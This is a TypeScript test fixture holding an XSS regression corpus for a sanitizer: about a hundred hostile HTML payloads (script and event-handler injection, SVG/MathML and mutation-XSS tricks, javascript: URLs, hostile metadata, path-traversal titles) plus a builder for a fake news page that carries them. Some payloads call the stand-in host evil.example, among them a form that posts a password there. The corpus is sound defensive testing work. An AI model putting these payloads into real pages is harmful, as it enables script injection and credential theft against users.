/**
 * The XSS regression corpus: hostile inputs a page can carry, as plain data (no DOM, no imports), so
 * the unit suite (one test per vector, named after the attack) and the Chromium e2e suite (one page
 * carrying all of them) share it.
 *
 * Every payload that could run calls the canary `window.__pwned=1` (or `parent.`/`top.`), so a test
 * can ask any context whether something executed; the unit suite also checks every output
 * structurally for executable forms (`checks.ts`).
 *
 * - `body`: markup placed inside the article body, between real paragraphs.
 * - `head`: markup placed in `<head>` (metadata, JSON-LD, base, refresh…).
 * - `title`: a hostile headline, put in `<title>`, `og:title` and the `<h1>` (front-matter, filename
 *   and text-rendering attacks).
 */
export type VectorPlace = 'body' | 'head' | 'title';

export interface XssVector {
  /** The attack, used as the test name. */
  name: string;
  place: VectorPlace;
  /** Raw markup for `body`/`head`; the headline text for `title`. */
  payload: string;
}

const body = (name: string, payload: string): XssVector => ({ name, place: 'body', payload });
const head = (name: string, payload: string): XssVector => ({ name, place: 'head', payload });
const title = (name: string, payload: string): XssVector => ({ name, place: 'title', payload });

const P = 'window.__pwned=1';

export const XSS_CORPUS: readonly XssVector[] = [
  // Scripts
  body('script tag', `<script>${P}</script>`),
  body('script tag with remote src', '<script src="https://evil.example/x.js"></script>'),
  body('mixed-case script tag', `<ScRiPt>${P}</sCrIpT>`),
  body('script with a type that still runs (module)', `<script type="module">${P}</script>`),
  // Event handlers
  body('img onerror handler', `<img src="x" onerror="${P}" alt="pic">`),
  body('body onload merged into the page body', `<body onload="${P}">`),
  body('details ontoggle handler', `<details open ontoggle="${P}"><summary>More</summary>Hidden text.</details>`),
  body('autofocus input onfocus handler', `<input autofocus onfocus="${P}">`),
  body('video source onerror handler', `<video><source src="x" onerror="${P}"></video>`),
  body('marquee onstart handler', `<marquee onstart="${P}">news ticker</marquee>`),
  body('anchor onmouseover handler', `<a href="https://example.com/ok" onmouseover="${P}">hover me</a>`),
  body('unquoted handler with slash separator', `<img/src=x/onerror=${P}>`),
  // SVG tricks
  body('svg onload handler', `<svg onload="${P}"><circle r="4"></circle></svg>`),
  body('svg script element', `<svg><script>${P}</script></svg>`),
  body('svg animate sets a javascript: href', `<svg><a><animate attributeName="href" values="javascript:${P}"/><text x="20" y="20">tap</text></a></svg>`),
  body('svg use with a data: document', `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${P}'/&gt;&lt;/svg&gt;#x"/></svg>`),
  body('svg foreignObject with an iframe', `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe></foreignObject></svg>`),
  body('svg xlink:href javascript: link', `<svg><a xlink:href="javascript:${P}"><text x="1" y="1">tap</text></a></svg>`),
  // MathML tricks
  body('MathML href javascript:', `<math><mi href="javascript:${P}">tap</mi></math>`),
  body('MathML maction xlink:href', `<math><maction actiontype="statusline" xlink:href="javascript:${P}">tap<mtext>x</mtext></maction></math>`),
  body('MathML annotation-xml carrying HTML', `<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src="x" onerror="${P}"></annotation-xml></semantics></math>`),
  body('MathML mglyph loading an image', `<math><mi><mglyph src="https://evil.example/x.png" onerror="${P}"></mglyph></mi></math>`),
  body('MathJax TeX script with markup in it', `<script type="math/tex">x</script><img src=x onerror=${P}>`),
  // URLs
  body('javascript: link', `<a href="javascript:${P}">Read more</a>`),
  body('javascript: link with tab and entities', `<a href="jav&#x09;ascript&colon;${P}">Read more</a>`),
  body('javascript: link with leading control characters', `<a href="&#x01; &#14;javascript:${P}">Read more</a>`),
  body('vbscript: link', '<a href="vbscript:msgbox(1)">Read more</a>'),
  body('data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">Open</a>'),
  body('data:image/svg+xml image with script', `<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${P}'/&gt;" alt="chart">`),
  body('javascript: image src', `<img src="javascript:${P}" alt="x">`),
  body('javascript: blockquote cite', `<blockquote cite="javascript:${P}"><p>Quoted words.</p></blockquote>`),
  body('srcset with javascript: candidate', `<img src="https://example.com/a.png" srcset="javascript:${P} 2x" alt="a">`),
  body('ping attribute beacon', '<a href="https://example.com/ok" ping="https://evil.example/ping">tracked</a>'),
  // Frames and embeds
  body('srcdoc iframe', `<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>`),
  body('javascript: iframe src', `<iframe src="javascript:parent.__pwned=1"></iframe>`),
  body('object with javascript: data', `<object data="javascript:${P}"></object>`),
  body('embed with a data: document', `<embed src="data:text/html,&lt;script&gt;${P}&lt;/script&gt;">`),
  // Forms
  body('form posting to another site', '<form action="https://evil.example/steal" method="post"><label>Password <input type="password" name="pw"></label><button>Log in</button></form>'),
  body('button formaction javascript:', `<form><button formaction="javascript:${P}">Submit</button></form>`),
  body('textarea autofocus onfocus handler', `<textarea autofocus onfocus="${P}">notes</textarea>`),
  // base / meta refresh / link
  body('base tag in the body', '<base href="https://evil.example/">'),
  body('meta refresh to javascript:', `<meta http-equiv="refresh" content="3600;url=javascript:${P}">`),
  body('link stylesheet from another site', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  body('style tag with @import', "<style>@import url('https://evil.example/x.css'); p{color:red}</style>"),
  // CSS overlays
  body('style attribute full-page overlay', '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;background:#fff">Your session expired. <a href="https://evil.example/login">Log in again</a></div>'),
  body('style attribute background beacon', "<p style=\"background:url('https://evil.example/beacon.png')\">Styled paragraph.</p>"),
  body('class names that would style an overlay', '<div class="modal-overlay fixed inset-0">Overlay by class.</div>'),
  // Mutation XSS (parser confusion)
  body('noscript title breakout (mXSS)', `<noscript><p title="</noscript><img src=x onerror=${P}>"></p></noscript>`),
  body('svg style breakout (mXSS)', `<svg></p><style><a id="</style><img src=1 onerror=${P}>"></a></style></svg>`),
  body('template content with handler', `<template><img src=x onerror=${P}></template>`),
  body('math mglyph style namespace confusion (mXSS)', `<math><mtext><table><mglyph><style><img src=x onerror=${P}></style></mglyph></table></mtext></math>`),
  body('form/math namespace confusion (mXSS)', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${P}></style></mglyph></mtext></math></form>`),
  body('comment breakout', `<!--><img src=x onerror=${P}>-->`),
  body('svg CDATA breakout', `<svg><![CDATA[><img src=x onerror=${P}>]]></svg>`),
  body('xmp raw text with markup', `<xmp><img src=x onerror=${P}></xmp>`),
  body('DOM clobbering ids and names', '<img id="__gleanerExtract" name="getElementById" src="https://example.com/c.png" alt="c"><a id="location" href="https://example.com/x">x</a>'),
  // Markdown-level injection through text
  body('escaped HTML text becoming raw HTML in Markdown', `<p>Code sample: &lt;img src=x onerror=${P}&gt; appears in the text.</p>`),
  body('escaped script text becoming an HTML block in Markdown', `<p>&lt;script&gt;${P}&lt;/script&gt;</p>`),
  body('javascript: autolink through text', `<p>Visit &lt;javascript:${P}&gt; for details.</p>`),
  body('Markdown link syntax through text', `<p>[click here](javascript:${P}) to continue.</p>`),
  body('Markdown reference definition through text', `<p>[ref]: javascript:${P}</p>`),
  body('code block that closes its own fence', `<pre><code>\`\`\`\n~~~~\n&lt;img src=x onerror=${P}&gt;\n</code></pre>`),
  body('link title breaking out of Markdown', `<a href="https://example.com/ok" title='"><img src=x onerror=${P}>'>titled link</a>`),
  body('image alt breaking out of Markdown', `<img src="https://example.com/a.png" alt="](javascript:${P}) <img src=x onerror=${P}>">`),
  body('image title with a blank line', `<img src="https://example.com/a.png" alt="a" title="caption&#10;&#10;<img src=x onerror=${P}>">`),
  body('link title with a blank line', `<a href="https://example.com/ok" title="caption&#10;&#10;<img src=x onerror=${P}>">titled</a>`),
  body('image src with a closing parenthesis', `<img src="https://example.com/a.png)[x](javascript:${P}" alt="a">`),
  body('link href with a closing parenthesis', `<a href="https://example.com/a)[x](javascript:${P}">paren link</a>`),
  // Hostile metadata
  head('hostile JSON-LD headline and author', `<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"<img src=x onerror=${P}>","author":{"@type":"Person","name":"<script>${P}</script>"}}</script>`),
  head('JSON-LD breaking out of its script element', `<script type="application/ld+json">{"@type":"NewsArticle","headline":"x</script><script>${P}</script>"}</script>`),
  head('JSON-LD javascript: image and url', `<script type="application/ld+json">{"@type":"NewsArticle","image":"javascript:${P}","url":"javascript:${P}"}</script>`),
  head('og:image javascript: URL', `<meta property="og:image" content="javascript:${P}">`),
  head('canonical link javascript: URL', `<link rel="canonical" href="javascript:${P}">`),
  head('og:url data: URL', '<meta property="og:url" content="data:text/html,<script>window.__pwned=1</script>">'),
  head('meta author with markup', `<meta name="author" content="<img src=x onerror=${P}>">`),
  head('meta description with script', `<meta name="description" content="<script>${P}</script> A summary.">`),
  head('og:site_name with markup and bidi override', `<meta property="og:site_name" content="&lt;b onmouseover=${P}&gt;Daily&#x202E;moc.live">`),
  head('published time with markup', `<meta property="article:published_time" content="2024-05-01T10:00:00Z&quot;&gt;&lt;script&gt;${P}&lt;/script&gt;">`),
  head('keywords with markup', `<meta name="keywords" content="<svg onload=${P}>, news">`),
  head('base tag in the head', '<base href="https://evil.example/">'),
  head('meta refresh in the head', `<meta http-equiv="refresh" content="3600;url=javascript:${P}">`),
  head('content-language with markup', `<meta http-equiv="content-language" content='"><img src=x onerror=${P}>'>`),
  // Titles: front matter, filename and text rendering
  title('front-matter injection with --- and newlines', 'Budget vote\n---\nevil: true\n---\n# pwned'),
  title('front-matter injection with ": " and quotes', 'Breaking: "quoted" #hashtag & \'single\' | pipe: value'),
  title('front-matter YAML tags and anchors', '!!js/function "function(){window.__pwned=1}" &anchor *alias'),
  title('title with markup', `<img src=x onerror=${P}> Council vote`),
  title('filename path traversal (../)', '../../../../etc/passwd'),
  title('filename Windows path traversal', '..\\..\\Windows\\System32\\drivers\\etc\\hosts'),
  title('filename reserved device name', 'CON'),
  title('filename reserved name with extension', 'nul.txt'),
  title('filename control characters', 'Council\u0000vote\u0007 \u001b[31mred\u007f'),
  title('filename bidi override disguise', 'Council report \u202Egnp.exe'),
  title('filename only dots', '....'),
  title('filename absolute path', '/etc/cron.d/gleaner'),
  title('filename drive letter', 'C:\\Users\\Public\\evil'),
  title('filename very long title', `Council ${'budget '.repeat(120)}vote`),
];

const PARAGRAPHS = [
  'The city council approved the new budget on Tuesday after a debate that lasted well into the night, with members split over spending on parks.',
  'Residents who attended the meeting said the changes, which take effect next year, were long overdue and would make the neighbourhood safer for children.',
  'The mayor, speaking after the vote, said the budget balanced the needs of a growing city with the limits of what taxpayers could be asked to pay.',
  'Opponents argued that the plan relied on optimistic forecasts and warned that cuts to libraries and transport would follow if revenue fell short.',
  'A final reading is scheduled for next month, when the council is expected to confirm the figures and publish the full spending plan online.',
  'Local businesses welcomed the decision to keep property taxes unchanged, though several owners asked for faster approval of building permits.',
];

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`).replace(/\n/g, '&#10;');
}

/** Wraps a body vector so a page can tell it was parsed (and where one vector ends). */
export function wrapBodyVector(vector: XssVector, index: number): string {
  return `<div data-vector="${index}">${vector.payload}</div>`;
}

export interface HostilePageOptions {
  /** The headline (escaped into the page); defaults to a plain one. */
  headline?: string;
  /** Raw head markup. */
  head?: string;
  /** Raw markup placed after the third paragraph of the article. */
  body?: string;
  lang?: string;
}

/** A realistic news article page carrying hostile markup. */
export function hostilePage(options: HostilePageOptions = {}): string {
  const headline = options.headline ?? 'Council passes the city budget after a long debate';
  const paragraphs = PARAGRAPHS.map((p) => `<p>${p}</p>`);
  return `<!doctype html>
<html lang="${options.lang ?? 'en'}">
<head>
<meta charset="utf-8">
<title>${escapeHtml(headline)}</title>
<meta property="og:title" content="${escapeHtml(headline)}">
<meta property="og:type" content="article">
<meta property="og:site_name" content="Riverside Daily">
<meta name="author" content="Jane Reporter">
<meta property="article:published_time" content="2024-05-01T10:00:00Z">
${options.head ?? ''}
</head>
<body>
<header><nav><a href="/">Home</a> <a href="/news">News</a></nav></header>
<main>
<article>
<h1>${escapeHtml(headline)}</h1>
<p class="byline">By Jane Reporter</p>
${paragraphs.slice(0, 3).join('\n')}
${options.body ?? ''}
${paragraphs.slice(3).join('\n')}
</article>
</main>
<footer><p>© Riverside Daily</p></footer>
</body>
</html>`;
}

/** The page for one vector. */
export function pageForVector(vector: XssVector): string {
  if (vector.place === 'title') return hostilePage({ headline: vector.payload });
  if (vector.place === 'head') return hostilePage({ head: vector.payload });
  return hostilePage({ body: wrapBodyVector(vector, 0) });
}
